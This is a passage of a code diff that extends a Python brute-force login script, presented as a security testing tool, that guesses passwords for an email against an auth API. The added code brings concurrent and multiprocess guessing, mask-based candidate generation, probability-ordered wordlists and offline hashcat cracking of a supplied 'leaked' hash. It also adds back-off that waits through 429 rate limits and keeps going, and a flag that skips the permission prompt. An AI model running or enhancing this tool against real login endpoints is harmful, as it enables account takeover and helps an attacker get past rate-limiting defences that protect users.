+                    done, pending = await asyncio.wait(pending, return_when=asyncio.FIRST_COMPLETED)
+                    for future in done:
+                        password, success, response_data = future.result()
+                        index += 1
 
-        print(f"{Fore.CYAN}Starting brute force test...{Style.RESET_ALL}\n")
-        self.start_time = time.time()
+                        self.print_progress(index, password)
+
+                        if success:
+                            return password, response_data
+                    if self.stop_flag is not None and self.stop_flag.is_set():
+                        return None, None
+                    pending.update(asyncio.ensure_future(guarded(password))
+                                   for password in islice(passwords, len(done)))
+            finally:
+                for task in pending:
+                    task.cancel()
+                # Also collect finished tasks left in `done` so their exceptions count as retrieved
+                await asyncio.gather(*pending, *done, return_exceptions=True)
+
+        return None, None
+
+    def print_progress(self, index: int, password: str):
+        """Refresh the progress line, at most every PROGRESS_INTERVAL seconds."""
+        if not self.show_progress:
+            return
+        now = time.monotonic()
+        if now - self._last_print < PROGRESS_INTERVAL:
+            return
+        self._last_print = now
+
+        total_passwords = self.total_passwords
+        progress = (index / total_passwords) * 100 if total_passwords else 0
+        PROGRESS_STREAM.write(PROGRESS_TEMPLATE % (index, total_passwords, progress, password))
+        PROGRESS_STREAM.flush()
 
+    def print_rate_limited(self):
+        """Report that the server blocked the attack and stop the test."""
+        print(f"\n{Fore.GREEN}🛡️  Security Mechanism Triggered: Rate Limit Exceeded (429){Style.RESET_ALL}")
+        print(f"{Fore.GREEN}✓ The application successfully detected and blocked the brute force attack.{Style.RESET_ALL}")
+        self.save_state()
+        sys.exit(0)
+
+    def print_success(self, password: str, response_data: dict):
+        """Display the credentials that were found."""
+        self.successful_password = password
+        print(f"\n\n{Fore.GREEN}{'='*70}")
+        print(f"  ✓ SUCCESS! Password found!")
+        print(f"{'='*70}{Style.RESET_ALL}")
+        print(f"{Fore.GREEN}Email:{Style.RESET_ALL}     {self.email}")
+        print(f"{Fore.GREEN}Password:{Style.RESET_ALL}  {password}")
+        print(f"{Fore.GREEN}Token:{Style.RESET_ALL}     {response_data.get('token', 'N/A')[:50]}...")
+        print(f"{Fore.GREEN}{'='*70}{Style.RESET_ALL}\n")
+
+    def print_connection_error(self):
+        """Report that the target could not be reached and stop the test."""
+        print(f"\n{Fore.RED}✗ Connection Error: Cannot connect to {self.url}")
+        print(f"{Fore.YELLOW}  Make sure the server is running!{Style.RESET_ALL}\n")
+        sys.exit(1)
+
+    def run_serial(self, passwords: Iterator[str], stop_on_429: bool) -> Tuple[Optional[str], Optional[dict]]:
+        """
+        Test passwords one after another.
+
+        Args:
+            passwords: Passwords to test
+            stop_on_429: Stop at the first 429 instead of backing off
+
+        Returns:
+            Tuple of (password, response_data) on success, (None, None) otherwise
+        """
         for index, password in enumerate(passwords, 1):
-            progress = (index / total_passwords) * 100
-            print(f"{Fore.CYAN}[{index}/{total_passwords}] ({progress:.1f}%){Style.RESET_ALL} Testing: {password:<20}", end='\r')
+            if self.stop_flag is not None and self.stop_flag.is_set():
+                break
 
-            success, response_data = self.attempt_login(password)
+            self.print_progress(index, password)
 
+            success, response_data = self.attempt_with_backoff(password, stop_on_429)
             if success:
-                self.successful_password = password
-                print(f"\n\n{Fore.GREEN}{'='*70}")
-                print(f"  ✓ SUCCESS! Password found!")
-                print(f"{'='*70}{Style.RESET_ALL}")
-                print(f"{Fore.GREEN}Email:{Style.RESET_ALL}     {self.email}")
-                print(f"{Fore.GREEN}Password:{Style.RESET_ALL}  {password}")
-                print(f"{Fore.GREEN}Token:{Style.RESET_ALL}     {response_data.get('token', 'N/A')[:50]}...")
-                print(f"{Fore.GREEN}{'='*70}{Style.RESET_ALL}\n")
-                break
+                return password, response_data
+
+            self.pause()
+
+        return None, None
+
+    def search(self, passwords: Iterator[str], concurrency: int, stop_on_429: bool) -> Tuple[Optional[str], Optional[dict]]:
+        """
+        Test passwords serially, or concurrently when `concurrency` > 1.
+
+        Returns:
+            Tuple of (password, response_data) on success, (None, None) otherwise
+        """
+        # With --stop-on-429 the spent quota must surface as a 429 rather than be waited out
+        self.preempt_quota = not stop_on_429
+        if concurrency > 1:
+            return asyncio.run(self.run_async(passwords, concurrency, stop_on_429))
+        return self.run_serial(passwords, stop_on_429)
+
+    def run_workers(self, workers: int, concurrency: int, stop_on_429: bool) -> Tuple[Optional[str], Optional[dict]]:
+        """
+        Split the candidates round-robin across `workers` processes and merge their results.
+
+        Each worker generates the full candidate stream and keeps every `workers`-th entry, so
+        with --mask every process runs its own mp64 over the whole keyspace. The first worker
+        to find the password, hit the rate limit or lose the server stops the others.
+
+        Args:
+            workers: Number of worker processes
+            concurrency: Concurrent attempts inside each worker
+            stop_on_429: Stop at the first 429 instead of backing off
+
+        Returns:
+            Tuple of (password, response_data) on success, (None, None) otherwise
+        """
+        options = {
+            "url": self.url,
+            "email": self.email,
+            "wordlist": str(self.wordlist_path),
+            "mask": self.mask,
+            "mask_start": self.mask_start,
+            "mask_end": self.mask_end,
+            "dedup": self.dedup,
+            "delay": self._delay,
+            "backoff": self._backoff,
+            "concurrency": concurrency,
+            "stop_on_429": stop_on_429,
+        }
+        stop_flag = mp.Event()
+        results = []
+
+        with mp.Pool(workers, initializer=_init_worker, initargs=(stop_flag,)) as pool:
+            for result in pool.imap_unordered(partial(run_worker, options, workers=workers), range(workers)):
+                results.append(result)
+
+        self.attempts = sum(result["attempts"] for result in results)
+        self.throttled = sum(result["throttled"] for result in results)
+        self.quota_waits = sum(result["quota_waits"] for result in results)
+        self.congestion_events = sum(result["congestion_events"] for result in results)
+        # Every worker filters the full stream before taking its shard
+        self.duplicates = max(result["duplicates"] for result in results)
+        self.undecodable = max(result["undecodable"] for result in results)
+        self._backoff = max(result["backoff"] for result in results)
+
+        for result in results:
+            if result["password"]:
+                return result["password"], result["response_data"]
+        if any(result["error"] == "connection" for result in results):
+            self.print_connection_error()
+        if any(result["error"] == "rate_limited" for result in results):
+            self.print_rate_limited()
+        return None, None
 
-            time.sleep(delay)
+    def run_test(self, delay: float = 0.1, concurrency: int = 1, stop_on_429: bool = False, workers: int = 1,
+                 assume_yes: bool = False):
+        """
+        Run the brute force test.
+
+        Args:
+            delay: Base delay in seconds between attempts, the floor of the adaptive back-off
+            concurrency: Number of concurrent attempts (1 keeps the serial loop)
+            stop_on_429: Stop at the first 429 instead of honoring Retry-After and continuing
+            workers: Number of processes to shard the candidates across
+            assume_yes: Skip the interactive permission prompt
+        """
+        self.print_banner()
+
+        if not assume_yes:
+            confirm = input(f"{Fore.YELLOW}Do you have permission to test this system? (yes/no): {Style.RESET_ALL}")
+            if confirm.lower() != 'yes':
+                print(f"{Fore.RED}Test aborted.{Style.RESET_ALL}")
+                sys.exit(0)
+
+        if self.sort_by:
+            self.sort_wordlist()
+
+        if self.local_hash:
+            self.prefilter_local_hash()
+
+        if self.mask:
+            self.count_mask()
+        else:
+            self.count_wordlist()
+        passwords = self.candidates()
+
+        self.configure_delay(delay, self.load_state())
+
+        print(f"{Fore.CYAN}Starting brute force test...{Style.RESET_ALL}\n")
+        self.start_time = time.time()
+
+        if workers > 1:
+            print(f"{Fore.CYAN}Sharding across {workers} worker processes...{Style.RESET_ALL}\n")
+            password, response_data = self.run_workers(workers, concurrency, stop_on_429)
+        else:
+            try:
+                password, response_data = self.search(passwords, concurrency, stop_on_429)
+            except CONNECTION_ERRORS:
+                self.print_connection_error()
+            except RateLimitExceeded:
+                self.print_rate_limited()
+
+        if password:
+            self.print_success(password, response_data)
 
         self.print_summary()
 
     def print_summary(self):
         """Print test summary statistics."""
         elapsed_time = time.time() - self.start_time if self.start_time else 0
+        self.session.close()
+        self.save_state()
 
         print(f"\n{Fore.CYAN}{'='*70}")
         print(f"  TEST SUMMARY")
@@ -181,6 +1063,16 @@ class BruteForceTest:
         print(f"Total attempts:    {self.attempts}")
         print(f"Time elapsed:      {elapsed_time:.2f} seconds")
         print(f"Attempts per sec:  {self.attempts / elapsed_time if elapsed_time > 0 else 0:.2f}")
+        if self.throttled:
+            print(f"Rate limited:      {self.throttled} responses (429)")
+        if self.quota_waits:
+            print(f"Quota waits:       {self.quota_waits} (RateLimit-Remaining reached 0)")
+        if self.congestion_events:
+            print(f"Congestion:        {self.congestion_events} episodes (server likely rate-limited without returning 429)")
+        if self.duplicates:
+            print(f"Duplicates:        {self.duplicates} skipped")
+        if self.undecodable:
+            print(f"Undecodable:       {self.undecodable} lines skipped (not valid UTF-8)")
 
         if self.successful_password:
             print(f"{Fore.GREEN}Result:{Style.RESET_ALL}            ✓ Password found: {self.successful_password}")
@@ -198,8 +1090,70 @@ class BruteForceTest:
         print(f"{Fore.CYAN}{'='*70}{Style.RESET_ALL}\n")
 
 
+def _init_worker(stop_flag):
+    """Pool initializer: keep the shared stop flag for run_worker."""
+    global _stop_flag
+    _stop_flag = stop_flag
+
+
+def run_worker(options: dict, shard: int, workers: int) -> dict:
+    """
+    Test every `workers`-th candidate starting at `shard`, inside a pool process.
+
+    Args:
+        options: Tester settings from BruteForceTest.run_workers
+        shard: Index of this worker
+        workers: Total number of workers
+
+    Returns:
+        Dict with attempts, throttled, quota_waits, congestion_events, duplicates, undecodable, backoff, password, response_data and error
+    """
+    tester = BruteForceTest(options["url"], options["email"], options["wordlist"], mask=options["mask"],
+                            mask_start=options["mask_start"], mask_end=options["mask_end"], dedup=options["dedup"])
+    tester.stop_flag = _stop_flag
+    tester.show_progress = False
+    tester.configure_delay(options["delay"], options["backoff"])
+
+    passwords = tester.candidates()
+    password, response_data, error = None, None, None
+    try:
+        password, response_data = tester.search(islice(passwords, shard, None, workers),
+                                                options["concurrency"], options["stop_on_429"])
+        if password:
+            _stop_flag.set()
+    except CONNECTION_ERRORS:
+        error = "connection"
+        _stop_flag.set()
+    except RateLimitExceeded:
+        error = "rate_limited"
+        _stop_flag.set()
+    finally:
+        passwords.close()
+        tester.session.close()
+
+    return {
+        "attempts": tester.attempts,
+        "throttled": tester.throttled,
+        "quota_waits": tester.quota_waits,
+        "congestion_events": tester.congestion_events,
+        "duplicates": tester.duplicates,
+        "undecodable": tester.undecodable,
+        "backoff": tester._backoff,
+        "password": password,
+        "response_data": response_data,
+        "error": error,
+    }
+
+
 def main():
     """Main entry point for the script."""
+    # libuv event loop for the --concurrency path, when available (not on Windows)
+    try:
+        import uvloop
+        uvloop.install()
+    except ImportError:
+        pass
+
     parser = argparse.ArgumentParser(
         description='Brute Force Security Testing Tool',
         formatter_class=argparse.RawDescriptionHelpFormatter,
@@ -208,6 +1162,13 @@ Examples:
   python brute_force.py --email admin@example.com
   python brute_force.py --email user@test.com --url http://localhost:3000/api/auth
   python brute_force.py --email test@test.com --wordlist custom_wordlist.txt --delay 0.5
+  python brute_force.py --email test@test.com --concurrency 16 --delay 0
+  python brute_force.py --email test@test.com --mask '?u?l?l?l?d?d' --start Aaaa00 --end Mzzz99
+  python brute_force.py --email test@test.com --workers 4 --concurrency 8 --delay 0
+  python brute_force.py --email test@test.com --wordlist merged.txt --dedup exact
+  python brute_force.py --email test@test.com --local-hash "$(cat leaked.hash)" --algo bcrypt
+  python brute_force.py --email test@test.com --wordlist rockyou-withcount.txt --sort-by frequency
+  python brute_force.py --email test@test.com --yes --stop-on-429
         """
     )
 
@@ -232,17 +1193,101 @@ Examples:
         help='Path to password wordlist file (default: wordlist.txt)'
     )
 
+    parser.add_argument(
+        '--dedup',
+        nargs='?',
+        const='exact',
+        choices=['exact', 'lower'],
+        help='Skip duplicate candidates, compared exactly (default when given) or stripped and lowercased; '
+             '"lower" also drops case variants such as Password/password, which are distinct passwords'
+    )
+
+    parser.add_argument(
+        '--sort-by',
+        choices=['frequency', 'pcfg'],
+        help='Test the wordlist most-probable first: by "<count> <password>" lines, or by pcfg_cracker score'
+    )
+
+    parser.add_argument(
+        '--pcfg-scorer',
+        type=str,
+        default=PCFG_SCORER,
+        help=f'Path to pcfg_cracker password_scorer.py for --sort-by pcfg (default: {PCFG_SCORER})'
+    )
+
+    parser.add_argument(
+        '--local-hash',
+        type=str,
+        help='Known hash of the target password: crack it offline with hashcat and only test matches over the network'
+    )
+
+    parser.add_argument(
+        '--algo',
+        choices=sorted(HASHCAT_MODES),
+        default='bcrypt',
+        help='Hash scheme of --local-hash (default: bcrypt, as used by the backend)'
+    )
+
+    parser.add_argument(
+        '--mask',
+        type=str,
+        help='Generate candidates with maskprocessor (mp64) from this mask instead of the wordlist'
+    )
+
+    parser.add_argument(
+        '--start',
+        type=str,
+        help='First mask candidate to test, to shard the keyspace across runs (mp64 --start-at)'
+    )
+
+    parser.add_argument(
+        '--end',
+        type=str,
+        help='Last mask candidate to test, to shard the keyspace across runs (mp64 --stop-at)'
+    )
+
     parser.add_argument(
         '--delay',
         type=float,
         default=0.1,
-        help='Delay between attempts in seconds (default: 0.1)'
+        help='Base delay between attempts in seconds, adapted on 429 responses (default: 0.1)'
+    )
+
+    parser.add_argument(
+        '--concurrency',
+        type=int,
+        default=1,
+        help='Number of concurrent login attempts (default: 1, serial)'
+    )
+
+    parser.add_argument(
+        '--workers',
+        type=int,
+        default=1,
+        help='Number of processes to shard the candidates across (default: 1); '
+             'each one reads the whole wordlist or runs mp64 over the whole mask and keeps 1/N of it'
+    )
+
+    parser.add_argument(
+        '--yes',
+        action='store_true',
+        help='Confirm permission to test without prompting (required for CI and profiling runs)'
+    )
+
+    parser.add_argument(
+        '--stop-on-429',
+        action='store_true',
+        help='Stop at the first 429 response instead of backing off and continuing'
     )
 
     args = parser.parse_args()
 
-    tester = BruteForceTest(args.url, args.email, args.wordlist)
-    tester.run_test(delay=args.delay)
+    tester = BruteForceTest(args.url, args.email, args.wordlist, mask=args.mask,
+                            mask_start=args.start, mask_end=args.end, dedup=args.dedup,
+                            local_hash=args.local_hash, hash_algo=args.algo, sort_by=args.sort_by,
+                            pcfg_scorer=args.pcfg_scorer)
+    tester.run_test(delay=args.delay, concurrency=args.concurrency, stop_on_429=args.stop_on_429,
+                    workers=args.workers, assume_yes=args.yes)
 
 
 if __name__ == '__main__':